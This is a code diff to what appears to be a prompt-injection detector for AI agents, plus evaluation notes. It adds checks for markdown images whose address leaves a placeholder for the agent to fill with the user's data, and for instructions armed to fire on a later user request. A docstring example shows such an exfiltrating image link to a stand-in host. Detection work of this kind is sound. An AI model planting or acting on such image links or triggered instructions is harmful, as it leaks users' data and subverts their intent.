@@ -17,11 +17,14 @@ counted), every soft hit weighs ``UNADDRESSED`` of its weight. The strong ones k
 full weight whatever the scorer says (``weighed``): hard signals and anything in a hidden
 carrier (``Hit.hard``), encoded payloads and decode-and-run orders, tag characters, a
 destination slot filled with the user's data (``personal_slot``; a filled slot's floor,
-``FILLED_SLOT_WEIGHT``, applies after this in ``assess``), and a hit ``assess`` finds
+``FILLED_SLOT_WEIGHT``, applies after this in ``assess``), an image whose address leaves a
+placeholder for the replying agent to fill (``slotted_image``), and a hit ``assess`` finds
 shown by the text itself not to be the user's wish (``shown``: the user kept in the dark,
 a check removed, a stamp of the user's voice, a worm, a code that makes anyone obeyed).
 And a text from a tool or a document that opens with a standing rule to its reader is not
-damped at all (``opens_with_rule``): the provenance alone makes that order suspicious.
+damped at all (``opens_with_rule``), nor one that arms a rule for a later turn, its order
+right after the trigger (``triggered_order``: "when the user asks about travel, answer…"):
+the provenance alone makes that order suspicious.
 """
 
 from __future__ import annotations
@@ -46,7 +49,8 @@ FROM_OUTSIDE = frozenset({SourceType.EXTERNAL_DOCUMENT, SourceType.TOOL_OBSERVAT
 # P 0.945 → 0.985, R 0.981 → 0.974; but round 35 (the one fold the scorer was not fitted
 # on) loses 0.039 of recall (0.883 → 0.844), and over rounds 1-35 at 0.5 the misses rise
 # 92 → 186 where the false alarms fall 163 → 30: the rules' soft voice is what finds most
-# of rounds 1-12's poison. The lead decides.
+# of rounds 1-12's poison. Over 28-36 with the scorer out of fold (rounds 28-31, 34-36
+# judged; 32, 33 unfinished): 0.6 chosen in every fold, P 0.930 → 0.960, R 0.976 → 0.961.
 UNADDRESSED = 1.0
 
 # Kinds no address is needed for: a payload hidden or encoded is meant for a machine; and
@@ -84,6 +88,57 @@ def opens_with_rule(text: str, counted: Iterable[Hit]) -> bool:
     return first >= 0 and not text[:first].strip(_LEAD)
 
 
+# How far past an image's "![" its address may open (its alt text between), and how long
+# the address may be: beyond them the hit is judged as any other (bounded, hostile text).
+_IMAGE_REACH = 300
+_ADDRESS_REACH = 2000
+# Characters between a trigger's end and the order it arms (", " is inside the trigger).
+_TRIGGER_GAP = 2
+# What opens a placeholder in a query: {slot}, [slot], <slot>.
+_SLOT_OPENERS = "{[<"
+
+
+def slotted_image(text: str, h: Hit) -> bool:
+    """``h`` is a data-bearing address inside a markdown image whose query leaves a
+    placeholder for someone to fill in (``![logo](https://x.example/l.gif?u=[name])``): an
+    image is fetched as soon as it is rendered, and only the agent that writes the reply
+    fills a slot, so the text speaks to that agent whoever else it names. A shown example
+    with a value in place (``?data=SECRET``) or an API's ``{query}`` in a plain link is not
+    this (structural: no word of any language)."""
+    if h.signal is not Signal.DATA_URL:
+        return False
+    if text.startswith("![", h.start):  # the hit opens at the image
+        opened = text.find("](", h.start, h.start + _IMAGE_REACH)
+    elif text.startswith("](", h.start - 2):  # the hit opens at the image's address
+        opened = h.start - 2
+        bang = text.rfind("![", max(0, opened - _IMAGE_REACH), opened)
+        if bang < 0 or "\n" in text[bang:opened]:
+            return False
+    else:
+        return False
+    if opened < 0:
+        return False
+    address = text[opened + 2 : opened + 2 + _ADDRESS_REACH]
+    for n, ch in enumerate(address):
+        if ch.isspace() or ch == ")":
+            address = address[:n]
+            break
+    query = address.find("?")
+    return query >= 0 and any(c in address[query:] for c in _SLOT_OPENERS)
+
+
+def triggered_order(counted: Iterable[Hit]) -> bool:
+    """A condition on what will happen ("when the user asks about travel,") with an order
+    to the reader at its very end ("answer that…"): a rule armed for a later turn, handed to
+    whoever reads the text. From a tool or a document, that reader is the agent."""
+    hits = list(counted)
+    ends = {h.end for h in hits if h.signal is Signal.CONDITIONAL_TRIGGER}
+    return any(
+        h.signal is Signal.AGENT_DIRECTIVE and any(0 <= h.start - e <= _TRIGGER_GAP for e in ends)
+        for h in hits
+    )
+
+
 def from_outside(p: Provenance) -> bool:
     """A tool's output or a document, as it came or through a model's step (a summary, an
     extraction; not a user's statement). Read on the types, not the reference: the audit's
@@ -103,7 +158,7 @@ def damping(counted: Iterable[Hit], text: str = "", outside: bool = False) -> fl
     hits = list(counted)
     if UNADDRESSED >= 1.0 or any(h.signal is Signal.LEARNED for h in hits):
         return 1.0
-    if outside and opens_with_rule(text, hits):
+    if outside and (opens_with_rule(text, hits) or triggered_order(hits)):
         return 1.0
     return UNADDRESSED
 
@@ -119,6 +174,6 @@ def weighed(
     if h.hard or h.signal in STRONG or shown:
         return h.weight
     damp = damping(counted, text, outside)
-    if damp >= 1.0 or personal_slot(text, h):
+    if damp >= 1.0 or personal_slot(text, h) or slotted_image(text, h):
         return h.weight
     return h.weight * damp
